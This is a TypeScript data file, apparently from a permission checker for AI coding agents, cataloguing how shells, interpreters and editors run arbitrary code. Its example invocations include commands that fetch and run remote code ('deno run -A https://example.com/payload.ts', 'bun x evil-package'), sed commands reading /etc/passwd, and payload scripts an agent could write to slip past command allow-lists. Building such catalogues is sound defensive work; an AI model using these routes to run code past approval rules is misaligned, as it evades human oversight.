import { anywhere, cap, EDITOR, PACKAGE, PROJECT, RUNS_CODE, SHELL } from '../build';
import type { Capability, ProgramEntry } from '../types';

/** A POSIX-style shell: `-c` runs its argument, a file operand runs the file. */
function shell(names: string[], source: string): ProgramEntry {
  return {
    names,
    anyArguments: true,
    capabilities: [
      // A script with a substitution is one an agent cannot split into plain commands (Codex, for one, then matches the whole argv).
      cap(SHELL, `${names[0]}.command`, '-c COMMAND', 'a shell runs the command text it is given', source, ['{P} -c id', '{P} -lc id', "{P} -c 'echo $(id)'", "{P} -lc 'echo $(id)'"], { inline: { flags: ['-c', '-lc'], code: 'id' } }),
      cap(PROJECT, `${names[0]}.script`, 'FILE', 'a shell runs any script file it is given', source, ['{P} ./payload.sh'], { writes: 'payload.sh' }),
    ],
  };
}

/** An interpreter with an inline-code flag and a script operand. */
function interpreter(names: string[], flag: string, code: string, script: string, source: string, extra: string[] = [], more: Capability[] = []): ProgramEntry {
  const id = names[0];
  return {
    names,
    anyArguments: true,
    capabilities: [
      cap(RUNS_CODE, `${id}.inline`, `${flag} CODE`, `${flag} runs the code given on the command line`, source, [`{P} ${flag} '${code}'`, ...extra], { inline: { flags: [flag], code } }),
      cap(PROJECT, `${id}.script`, 'FILE', 'runs any script file it is given', source, [`{P} ./${script}`], { writes: script }),
      ...more,
    ],
  };
}

/** Shells, interpreters and editors: programs whose job is to run code. */
export const INTERPRETERS: readonly ProgramEntry[] = [
  shell(['bash'], 'bash(1): -c'),
  shell(['sh'], 'sh(1p): -c'),
  shell(['zsh'], 'zsh(1): -c'),
  shell(['dash'], 'dash(1): -c'),
  shell(['ksh', 'mksh'], 'ksh(1): -c'),
  {
    names: ['fish'],
    anyArguments: true,
    capabilities: [cap(SHELL, 'fish.command', '-c COMMAND', 'a shell runs the command text it is given', 'fish(1): -c', ['{P} -c id'], { inline: { flags: ['-c'], code: 'id' } })],
  },
  {
    names: ['pwsh', 'powershell'],
    anyArguments: true,
    capabilities: [cap(SHELL, 'pwsh.command', '-Command TEXT', 'PowerShell runs the command text or script file it is given', 'about_Pwsh: -Command, -File', ['{P} -Command id', '{P} -File ./payload.ps1'])],
  },
  { names: ['cmd'], anyArguments: true, capabilities: [cap(SHELL, 'cmd.command', '/c COMMAND', 'cmd /c runs any command line', 'cmd /? (Windows)', ['{P} /c id'])] },
  interpreter(['python', 'python3', 'python2', 'py', 'pypy', 'pypy3'], '-c', 'import os', 'payload.py', 'python(1): -c command', [], [
    cap(RUNS_CODE, 'python.manage-shell', "manage.py shell -c CODE", "Django's manage.py shell -c runs the code given", 'django-admin shell --command', ["{P} manage.py shell -c 'import os'"]),
    cap(PROJECT, 'python.module-tests', '-m pytest', 'python -m pytest and unittest run test files the agent can write', 'pytest docs: python -m pytest', ['{P} -m pytest ./test_payload.py', '{P} -m unittest test_payload'], { writes: 'test_payload.py', extend: (fixed) => (fixed[0] === '-m' && fixed[1] === 'pytest' && fixed.length > 2 ? anywhere('./test_payload.py')(fixed) : undefined) }),
  ]),
  interpreter(['node', 'nodejs'], '-e', 'require("child_process").execSync("id")', 'payload.js', 'node(1): -e, --eval, -p', ['{P} -e 0', '{P} --eval 0', '{P} -p 0']),
  interpreter(['ruby'], '-e', 'system("id")', 'payload.rb', 'ruby(1): -e', ['{P} -e 0']),
  interpreter(['perl'], '-e', 'system("id")', 'payload.pl', 'perl(1): -e', ['{P} -e 0']),
  interpreter(['php'], '-r', 'system("id");', 'payload.php', 'php(1): -r', ["{P} -r 'echo 1;'"]),
  interpreter(['lua', 'luajit'], '-e', 'os.execute("id")', 'payload.lua', 'lua(1): -e', ['{P} -e 0']),
  interpreter(['Rscript'], '-e', 'system("id")', 'payload.R', 'Rscript(1): -e', ['{P} -e 0']),
  interpreter(['julia'], '-e', 'run(`id`)', 'payload.jl', 'julia(1): -e', ['{P} -e 0']),
  interpreter(['tsx', 'ts-node'], '-e', 'require("child_process").execSync("id")', 'payload.ts', 'tsx and ts-node: -e, --eval', ['{P} -e 0']),
  {
    names: ['deno'],
    anyArguments: true,
    capabilities: [
      cap(RUNS_CODE, 'deno.eval', 'eval CODE', 'deno eval runs the code given', 'deno eval --help', ["{P} eval 'Deno.exit()'", '{P} eval 0'], { inline: { flags: ['eval'], code: 'Deno.exit()' } }),
      cap(PACKAGE, 'deno.remote', 'run -A URL', 'deno run fetches and runs a module from any URL, with every permission under -A', 'deno run --help', ['{P} run -A https://example.com/payload.ts']),
    ],
  },
  {
    names: ['bun'],
    anyArguments: true,
    capabilities: [
      cap(RUNS_CODE, 'bun.eval', '-e CODE', 'bun -e runs the code given', 'bun --help: -e, --eval', ['{P} -e 0'], { inline: { flags: ['-e'], code: '0' } }),
      cap(PACKAGE, 'bun.x', 'x PACKAGE', 'bun x downloads and runs any package', 'bun x --help', ['{P} x evil-package']),
      cap(PROJECT, 'bun.run', 'run SCRIPT', 'bun run runs package.json scripts the agent can write', 'bun run --help', ['{P} run payload'], { writes: 'package.json' }),
    ],
  },
  {
    names: ['osascript'],
    anyArguments: true,
    capabilities: [cap(RUNS_CODE, 'osascript.inline', '-e SCRIPT', 'AppleScript runs shell commands with do shell script', 'osascript(1): -e', ["{P} -e 'do shell script \"id\"'"])],
  },
  {
    names: ['awk', 'gawk', 'mawk', 'nawk'],
    anyArguments: true,
    capabilities: [
      cap(RUNS_CODE, 'awk.system', "'BEGIN{system(…)}'", 'an awk program runs commands with system() and pipes', 'awk(1p): system, getline from a command', ["{P} 'BEGIN{system(\"id\")}'"]),
      cap(PROJECT, 'awk.file', '-f FILE', 'awk -f runs a program file the agent can write', 'awk(1p): -f', ['{P} -f ./payload.awk'], { writes: 'payload.awk' }),
    ],
  },
  {
    names: ['sed', 'gsed'],
    anyArguments: true,
    capabilities: [
      cap(RUNS_CODE, 'sed.execute', "'1e COMMAND'", 'GNU sed runs shell commands with its e command and the e flag of s', 'GNU sed manual: Extended Commands (e command)', ["{P} -n '1e id' /etc/passwd", "{P} '1e id' /etc/passwd", "{P} -n '1e id' README.md"]),
      cap(PROJECT, 'sed.file', '-f FILE', 'sed -f runs a script file the agent can write, e commands included', 'GNU sed manual: -f', ['{P} -n -f ./payload.sed /etc/passwd'], { writes: 'payload.sed' }),
    ],
  },
  {
    names: ['sqlite3'],
    anyArguments: true,
    capabilities: [cap(RUNS_CODE, 'sqlite3.shell', "'.shell COMMAND'", 'the sqlite3 shell runs commands with its .shell and .system dot-commands', 'sqlite3 CLI: .shell, .system', ["{P} :memory: '.shell id'"])],
  },
  {
    names: ['vim', 'nvim', 'vi'],
    capabilities: [cap(EDITOR, 'vim.command', "-c '!COMMAND'", 'an Ex command given with -c runs shell commands (:!)', 'vim(1): -c, :!', ["{P} -es -c '!id' -c q"])],
  },
  {
    names: ['emacs'],
    capabilities: [cap(EDITOR, 'emacs.eval', '--eval FORM', '--eval runs Lisp, which runs shell commands', 'emacs(1): --batch, --eval', ["{P} --batch --eval '(shell-command \"id\")'"])],
  },
];
